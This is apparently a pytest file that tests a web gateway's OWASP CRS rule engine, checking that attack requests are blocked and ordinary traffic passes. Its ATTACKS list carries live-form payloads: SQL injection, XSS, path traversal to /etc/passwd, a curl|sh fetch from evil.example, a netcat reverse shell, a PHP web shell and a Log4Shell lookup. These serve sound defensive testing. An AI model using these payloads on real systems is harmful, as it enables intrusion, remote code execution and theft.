"""The real OWASP CRS 4.28 at paranoia level 1: attacks are blocked, ordinary traffic passes."""

from __future__ import annotations

from pathlib import Path

import pytest

from gateway.validation.crs import CrsEngine, Exclusion, RequestView
from tests.crs.conftest import NO_BUDGET, request

API = (
    ("Host", "api.example.com"),
    ("User-Agent", "python-requests/2.31.0"),
    ("Accept", "application/json"),
    ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"),
)

ATTACKS: list[tuple[str, str, RequestView]] = [
    ("sqli", "tautology", request("/items?id=1%27%20OR%20%271%27%3D%271")),
    ("sqli", "union", request("/items?id=-1%20UNION%20SELECT%20username,password%20FROM%20users")),
    (
        "sqli",
        "json-union",
        request("/api/search", "POST", json_body={"q": "1 UNION SELECT pass FROM users--"}),
    ),
    ("sqli", "sleep", request("/p?id=1%20AND%20SLEEP(5)")),
    (
        "sqli",
        "form-comment",
        request(
            "/login",
            "POST",
            body="user=admin%27--&pw=x",
            content_type="application/x-www-form-urlencoded",
        ),
    ),
    ("xss", "script", request("/s?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
    ("xss", "img-onerror", request("/s?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")),
    ("xss", "javascript-uri", request("/r?next=javascript:alert(1)")),
    ("xss", "json-svg", request("/c", "POST", json_body={"bio": "<svg onload=alert(1)>"})),
    ("lfi", "dotdot", request("/download?file=../../../../etc/passwd")),
    ("lfi", "encoded", request("/download?file=..%252f..%252f..%252fetc%252fshadow")),
    ("lfi", "json-win", request("/f", "POST", json_body={"path": "..\\..\\windows\\win.ini"})),
    ("rce", "semicolon-cat", request("/ping?host=127.0.0.1;cat%20/etc/passwd")),
    ("rce", "subshell", request("/ping?host=$(curl%20http://evil.example/x.sh|sh)")),
    ("rce", "pipe-nc", request("/ping?host=x%7Cnc%20-e%20/bin/sh%2010.0.0.1%204444")),
    ("php", "open-tag", request("/x?data=%3C?php%20system($_GET%5B%22c%22%5D);%20?%3E")),
    ("php", "wrapper", request("/x?page=php://filter/convert.base64-encode/resource=index")),
    ("php", "function", request("/x?f=base64_decode(%24_POST%5Bx%5D)")),
    (
        "java",
        "log4shell",
        request("/x", headers=(*API, ("X-Api-Version", "${jndi:ldap://evil.example/a}"))),
    ),
    ("java", "runtime-exec", request("/x?c=java.lang.Runtime.getRuntime().exec(%22id%22)")),
    (
        "java",
        "ognl-runtime",
        request("/x?o=%25%7B(%23rt%3D%40java.lang.Runtime%40getRuntime())%7D"),
    ),
    ("java", "spring4shell", request("/x?class.module.classLoader.resources.context.parent.x=1")),
]

BENIGN: list[tuple[str, RequestView]] = [
    ("home", request("/")),
    ("static", request("/static/app.3f9a1c.js")),
    ("search", request("/search?q=red+shoes&page=2&sort=price_asc")),
    (
        "prose-apostrophes",
        request(
            "/api/reviews",
            "POST",
            headers=API,
            json_body={
                "title": "Don't miss it",
                "text": "I can't believe it's this good. My kids' favourite, and O'Neill's too! "
                "We'll be back; it's worth every penny.",
                "rating": 5,
            },
        ),
    ),
    (
        "order-json",
        request(
            "/api/orders",
            "POST",
            headers=API,
            json_body={
                "customer": {"id": 1234, "email": "jane.doe@example.com", "name": "Jane Doe"},
                "items": [{"sku": "AB-12", "qty": 2, "price": 19.99}, {"sku": "ZX-9", "qty": 1}],
                "shipping": {
                    "address": "10 Downing Street",
                    "city": "London",
                    "postcode": "SW1A 2AA",
                },
                "note": "Leave at the door, please.",
            },
        ),
    ),
    (
        "form-login",
        request(
            "/login",
            "POST",
            body="username=jane&password=S3cure%21pass",
            content_type="application/x-www-form-urlencoded",
        ),
    ),
    ("api-get", request("/api/v1/users/42?fields=id,name,email&include=roles", headers=API)),
    ("dates-and-math", request("/api/report?from=2024-01-01&to=2024-03-31&tz=Europe%2FLondon")),
    (
        "markdown",
        request(
            "/api/posts",
            "POST",
            headers=API,
            json_body={
                "body": "# Release notes\n\n- Fixed a bug where the *select* box lost focus\n"
                "- Added `--verbose` flag to the CLI (see docs)\n",
            },
        ),
    ),
]


@pytest.mark.parametrize(
    ("family", "view"),
    [(f, v) for f, _, v in ATTACKS],
    ids=[f"{f}-{name}" for f, name, _ in ATTACKS],
)
def test_attacks_are_blocked_and_attributed(crs: CrsEngine, family: str, view: RequestView) -> None:
    """Each hand-written attack crosses the threshold and is attributed to its family."""
    verdict = crs.evaluate(view)
    assert verdict.failure is None
    assert verdict.blocked, verdict
    assert verdict.anomaly_score >= 5
    assert family in verdict.families, verdict


@pytest.mark.parametrize("view", [v for _, v in BENIGN], ids=[name for name, _ in BENIGN])
def test_benign_requests_pass(crs: CrsEngine, view: RequestView) -> None:
    """Ordinary browser and API traffic, prose with apostrophes included, is not blocked."""
    verdict = crs.evaluate(view)
    assert verdict.failure is None
    assert not verdict.blocked, verdict
    assert verdict.anomaly_score == 0


def test_the_ruleset_loads_with_nothing_skipped(crs: CrsEngine) -> None:
    """Every CRS 4.28 request rule at PL1 compiles; the few gaps are listed, once each."""
    report = crs.report
    assert report.skipped == ()
    assert report.regex_engines.get("re", 0) == 0
    listed = {line.split(": ", 1)[1].rsplit(" (uses", 1)[0] for line in report.unsupported}
    assert listed == {
        "action initcol accepted with no effect",
        "ctl:forceRequestBodyVariable accepted with no effect",
        "ctl:requestBodyProcessor accepted with no effect",
        "ctl:auditEngine accepted with no effect",
        "variable XML sees nothing: no XML body processor",
    }
    assert report.rules > 250


def test_a_verdict_names_the_field_for_an_exclusion(crs: CrsEngine, crs_dir: Path) -> None:
    """The matched field is reported; excluding it for those rules lets the request through."""
    view = request("/api/c", "POST", json_body={"comment": "<script>alert(1)</script>", "x": "1"})
    verdict = crs.evaluate(view)
    assert verdict.blocked and "ARGS:json.comment" in verdict.fields
    relaxed = CrsEngine.load(
        crs_dir,
        exclusions=(Exclusion(((941000, 941999),), fields=("json.comment",)),),
        time_budget=NO_BUDGET,
    )
    assert not relaxed.evaluate(view).blocked


def test_paranoia_level_2_is_stricter(crs: CrsEngine, crs_dir: Path) -> None:
    """A request PL1 lets through is scored at PL2 (more rules load)."""
    view = request("/x?q=a%27b%27c%27d%27e")
    pl2 = CrsEngine.load(crs_dir, paranoia_level=2, time_budget=NO_BUDGET)
    assert pl2.report.rules > crs.report.rules
    assert crs.evaluate(view).anomaly_score == 0
    assert pl2.evaluate(view).anomaly_score > 0


DEBIAN_CRS = Path("/usr/share/modsecurity-crs/rules")


@pytest.mark.skipif(not DEBIAN_CRS.is_dir(), reason="Debian's modsecurity-crs is not installed")
def test_crs_3_3_loads_and_detects() -> None:
    """Debian's CRS 3.3 loads; what it needs and we lack (IP reputation, GeoIP, RBL) is listed."""
    engine = CrsEngine.load(DEBIAN_CRS, time_budget=NO_BUDGET)
    assert any("@rbl" in line for line in engine.report.unsupported)
    assert engine.evaluate(request("/?id=1%27%20OR%20%271%27%3D%271")).blocked
    assert engine.evaluate(request("/?f=../../etc/passwd")).blocked
    assert not engine.evaluate(request("/search?q=red+shoes")).blocked
